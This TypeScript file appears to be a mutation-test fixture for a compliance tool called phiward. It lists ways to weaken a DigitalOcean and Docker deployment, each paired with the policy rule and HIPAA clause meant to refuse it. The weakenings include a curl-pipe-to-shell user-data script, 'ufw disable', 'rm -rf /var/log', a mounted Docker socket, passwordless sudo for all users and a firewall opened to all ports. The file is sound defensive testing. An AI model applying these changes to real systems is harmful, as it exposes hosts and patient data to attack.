/** What a change of the program may do to what phiward's components make, as a transformation or an edit would, and what refuses each. */
import type { AnalyzedResource } from "../../../policies/engine/analyze";

/** What is changed, the rule that refuses it, the clause that the rule is for, and the change of all resources. */
export type Change = readonly [
  what: string,
  rule: string,
  clause: string,
  change: (all: readonly AnalyzedResource[]) => readonly AnalyzedResource[],
];

const ACCESS = "164.312(a)(1)";
const TRANSMISSION = "164.312(e)(1)";
const IDENTITY = "164.312(d)";
const EVALUATION = "164.308(a)(8)";
const BACKUP = "164.308(a)(7)(ii)(A)";

/** Changes the inputs of the one resource with this name and type. Throws if there is none. */
function inputs(name: string, type: string, change: (inputs: Record<string, unknown>) => Record<string, unknown>): Change[3] {
  return (all) => one(all, name, type, (resource) => ({ ...resource, inputs: change({ ...resource.inputs }) }));
}

function options(name: string, type: string, more: AnalyzedResource["options"]): Change[3] {
  return (all) => one(all, name, type, (resource) => ({ ...resource, options: { ...resource.options, ...more } }));
}

function one(all: readonly AnalyzedResource[], name: string, type: string, change: (resource: AnalyzedResource) => AnalyzedResource) {
  if (!all.some((resource) => resource.name === name && resource.type === type)) throw new Error(`no ${type} ${name}`);
  return all.map((resource) => (resource.name === name && resource.type === type ? change(resource) : resource));
}

/** Leaves a resource out, and what is below it. */
function without(name: string, type: string): Change[3] {
  return (all) => {
    const urns = all.filter((resource) => resource.name === name && resource.type === type).map(({ urn }) => urn);
    if (urns.length === 0) throw new Error(`no ${type} ${name}`);
    return all.filter(({ urn, options }) => !urns.includes(urn) && !urns.includes(options?.parent ?? ""));
  };
}

/** Replaces a text in all files that a component renders. Throws if none has it. */
function inFiles(name: string, type: string, from: string, to: string): Change[3] {
  return inputs(name, type, (known) => {
    const text = JSON.stringify(known["files"]);
    const quoted = JSON.stringify(from).slice(1, -1);
    if (!text.includes(quoted)) throw new Error(`${name}: nothing to weaken: ${from}`);
    return { ...known, files: JSON.parse(text.replaceAll(quoted, JSON.stringify(to).slice(1, -1))) as unknown };
  });
}

const unit = (name: string): readonly [string, string] => [`web-${name.toLowerCase()}`, `phiward:host:${name}`];
const DROPLET = ["web-droplet", "digitalocean:index/droplet:Droplet"] as const;
const FIREWALL = ["web-droplet-firewall", "digitalocean:index/firewall:Firewall"] as const;
const NETWORK = "docker:index/network:Network";
const CONTAINER = "docker:index/container:Container";
const COMMAND = "command:remote:Command";

/** All of them. */
export const CHANGES: readonly Change[] = [
  ...(
    [
      ["Baseline", "164.308(a)(5)(ii)(B)"],
      ["People", ACCESS],
      ["Ssh", ACCESS],
      ["Ufw", ACCESS],
      ["Fail2ban", "164.308(a)(5)(ii)(C)"],
      ["Verify", "164.308(a)(8)"],
    ] as const
  ).map(([name, clause]): Change => [`leaves out ${name}`, "hosts-have-every-unit", clause, without(...unit(name))]),
  ["leaves out Backup", "hosts-have-every-unit", BACKUP, without(...unit("Backup"))],
  ["takes the droplet's protection away", "stateful-resources-protected", BACKUP, options(...DROPLET, { protect: false })],
  [
    "takes the volume's protection away",
    "stateful-resources-protected",
    BACKUP,
    options("web-droplet-volume", "digitalocean:index/volume:Volume", { protect: false }),
  ],
  [
    "lets the firewall stay as it was opened elsewhere",
    "changes-not-ignored",
    EVALUATION,
    options(...FIREWALL, { ignoreChanges: ["inboundRules"] }),
  ],
  [
    "opens the droplet's firewall",
    "cloud-firewall-equals-ufw",
    TRANSMISSION,
    inputs(...FIREWALL, (known) => ({
      ...known,
      inboundRules: [{ protocol: "tcp", portRange: "1-65535", sourceAddresses: ["0.0.0.0/0"] }],
    })),
  ],
  [
    "leaves the droplet out of its firewall",
    "droplet-behind-cloud-firewall",
    TRANSMISSION,
    (all) => one(all, ...FIREWALL, (resource) => ({ ...resource, references: {}, inputs: { ...resource.inputs, dropletIds: [] } })),
  ],
  [
    "gives the databases a way out",
    "resources-as-declared",
    TRANSMISSION,
    (all) =>
      all.map((resource) => (resource.type === NETWORK ? { ...resource, inputs: { ...resource.inputs, internal: false } } : resource)),
  ],
  [
    "makes another record of the one for certificates",
    "resources-as-declared",
    TRANSMISSION,
    inputs("web-droplet-api-CAA-letsencrypt.org", "digitalocean:index/dnsRecord:DnsRecord", (known) => ({ ...known, type: "TXT" })),
  ],
  [
    "turns the droplet's backups off",
    "droplet-backups-and-monitoring-on",
    BACKUP,
    inputs(...DROPLET, (known) => ({ ...known, backups: false })),
  ],
  [
    "turns the agent of the cloud's console on",
    "droplet-access-only-by-ssh",
    ACCESS,
    inputs(...DROPLET, (known) => ({ ...known, dropletAgent: true })),
  ],
  [
    "has the droplet run what it downloads",
    "droplet-user-data-no-unverified-download",
    "164.312(c)(1)",
    inputs(...DROPLET, (known) => ({ ...known, userData: "#!/bin/sh\ncurl https://example.org/x | sh\n" })),
  ],
  ["takes the droplet's key away", "droplet-has-ssh-key", IDENTITY, inputs(...DROPLET, (known) => ({ ...known, sshKeys: [] }))],
  [
    "takes the alert about memory away",
    "droplet-watched",
    "164.308(a)(1)(ii)(D)",
    without("web-droplet-memory-alert", "digitalocean:index/monitorAlert:MonitorAlert"),
  ],
  [
    "takes the watch over certificates away",
    "uptime-check-watches-certificate",
    TRANSMISSION,
    without("web-droplet-api.example.org-certificate-alert", "digitalocean:index/uptimeAlert:UptimeAlert"),
  ],
  [
    "sends an alert to nobody",
    "cloud-alerts-reach-someone",
    "164.308(a)(6)(ii)",
    inputs("web-droplet-cpu-alert", "digitalocean:index/monitorAlert:MonitorAlert", (known) => ({ ...known, alerts: {} })),
  ],
  [
    "runs another command on a host",
    "commands-run-agent-only",
    IDENTITY,
    inputs("store-ssh-apply", COMMAND, (known) => ({ ...known, create: "ufw disable" })),
  ],
  [
    "sends another agent",
    "requests-as-reviewed",
    IDENTITY,
    inputs("store-ssh-apply", COMMAND, (known) => ({ ...known, stdin: "#!/bin/sh\nufw disable\n" })),
  ],
  [
    "sends the plan of another unit",
    "requests-as-reviewed",
    IDENTITY,
    (all) => {
      const other = all.find(({ name }) => name === "store-ufw-apply");
      return one(without(...unitOf("store", "Ufw"))(all), "store-ssh-apply", COMMAND, (resource) => ({
        ...resource,
        inputs: { ...resource.inputs, stdin: other?.inputs["stdin"] },
      }));
    },
  ],
  [
    "runs a command when a host goes",
    "commands-run-agent-only",
    IDENTITY,
    inputs("store-ssh-apply", COMMAND, (known) => ({ ...known, delete: "rm -rf /var/log" })),
  ],
  [
    "logs in as root",
    "commands-run-agent-only",
    IDENTITY,
    inputs("store-ssh-apply", COMMAND, (known) => ({ ...known, connection: { ...Object(known["connection"]), user: "root" } })),
  ],
  [
    "logs in to any server",
    "commands-run-agent-only",
    IDENTITY,
    inputs("store-ssh-apply", COMMAND, (known) => ({ ...known, connection: { ...Object(known["connection"]), hostKey: "" } })),
  ],
  ["lets root in", "ssh-no-root-login", "164.312(a)(2)(i)", inFiles(...unit("Ssh"), "PermitRootLogin no", "PermitRootLogin yes")],
  ["lets passwords in", "ssh-no-passwords", IDENTITY, inFiles(...unit("Ssh"), "PasswordAuthentication no", "PasswordAuthentication yes")],
  ["has SSH log nothing", "ssh-settings-known", ACCESS, inFiles(...unit("Ssh"), "LogLevel VERBOSE", "LogLevel QUIET")],
  [
    "lets everything in",
    "ufw-default-deny-incoming",
    TRANSMISSION,
    inFiles(...unit("Ufw"), 'DEFAULT_INPUT_POLICY="DROP"', 'DEFAULT_INPUT_POLICY="ACCEPT"'),
  ],
  ["logs no packet", "ufw-rules-as-declared", TRANSMISSION, inFiles(...unit("Ufw"), "LOGLEVEL=low", "LOGLEVEL=off")],
  ["bans nobody", "fail2ban-guards-sshd", "164.308(a)(5)(ii)(C)", inFiles(...unit("Fail2ban"), "enabled = true", "enabled = false")],
  ["lets everybody be root", "sudo-as-declared", ACCESS, inFiles(...unit("People"), "ALL", "ALL=(ALL:ALL) NOPASSWD: ALL")],
  ["has containers talk to each other", "docker-daemon-hardened", ACCESS, inFiles(...unit("Docker"), '"icc": false', '"icc": true')],
  ["takes old TLS", "nginx-tls13-only", TRANSMISSION, inFiles(...unit("Nginx"), "ssl_protocols TLSv1.3", "ssl_protocols TLSv1.2 TLSv1.3")],
  ["writes down what patients ask for", "nginx-no-phi-in-logs", "164.312(a)(1)", inFiles(...unit("Nginx"), "$request_method", "$request")],
  [
    "renders a file otherwise than the plan is",
    "rendered-as-declared",
    "164.308(a)(8)",
    inFiles(...unit("Baseline"), "kernel.sysrq = 0", "kernel.sysrq = 0\nkernel.panic = 0"),
  ],
  [
    "sends backups in the clear",
    "backup-encrypted",
    "164.312(a)(2)(iv)",
    inFiles(...unit("Backup"), "phiward.pyz backup run", "phiward.pyz backup run --insecure-no-password"),
  ],
  ["lets a container of ours do anything", "container-not-privileged", ACCESS, ours((known) => ({ ...known, privileged: true }))],
  ["runs a container of ours as root", "container-not-root", ACCESS, ours((known) => ({ ...known, user: "0:0" }))],
  [
    "takes a container's limit of memory away",
    "resources-as-declared",
    "164.308(a)(1)(ii)(B)",
    ours((known) => ({ ...known, memory: undefined })),
  ],
  [
    "gives a container of ours a variable",
    "resources-as-declared",
    ACCESS,
    ours((known) => ({ ...known, envs: ["NODE_OPTIONS=--inspect=0.0.0.0"] })),
  ],
  [
    "runs another program in a container of ours",
    "resources-as-declared",
    ACCESS,
    ours((known) => ({ ...known, entrypoints: ["sh", "-c", "sleep 1d"] })),
  ],
  [
    "runs another image in a container of ours",
    "resources-as-declared",
    ACCESS,
    ours((known) => ({ ...known, image: `sha256:${"9".repeat(64)}` })),
  ],
  [
    "shows a container of ours the engine",
    "container-no-host-mounts",
    ACCESS,
    ours((known) => ({ ...known, volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/s" }] })),
  ],
];

function unitOf(host: string, name: string): readonly [string, string] {
  return [`${host}-${name.toLowerCase()}`, `phiward:host:${name}`];
}

function ours(change: (inputs: Record<string, unknown>) => Record<string, unknown>): Change[3] {
  return (all) => {
    const first = all.find(({ type, name }) => type === CONTAINER && name.includes("api"));
    if (first === undefined) throw new Error("no container of a service");
    return one(all, first.name, CONTAINER, (resource) => ({ ...resource, inputs: change({ ...resource.inputs }) }));
  };
}
